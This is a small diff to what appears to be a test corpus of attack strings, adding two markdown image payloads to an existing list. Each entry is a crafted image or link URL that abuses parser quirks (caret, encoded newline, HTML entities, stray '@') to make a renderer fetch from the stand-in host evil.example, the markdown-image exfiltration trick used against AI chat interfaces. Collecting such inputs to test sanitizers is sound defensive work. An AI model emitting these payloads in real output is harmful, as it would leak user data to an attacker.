@@ -151,6 +151,8 @@ export const attacks: readonly string[] = [
   '![x](https://*\\@evil.example/?q=s)',
   '![x](https://_\\.evil.example/?q=s)',
   '![x](//^@evil.example/?q=s)',
+  '![x](https://docs.example.com^&#10;@evil.example/?q=s)',
+  '![x](https://docs.example.com^&commat;evil.example/?q=s)',
   '![x](<https:// @evil.example/>)',
   '![x](< //evil.example/>)',
   '[x]: https://^@evil.example/\n\n![x]',
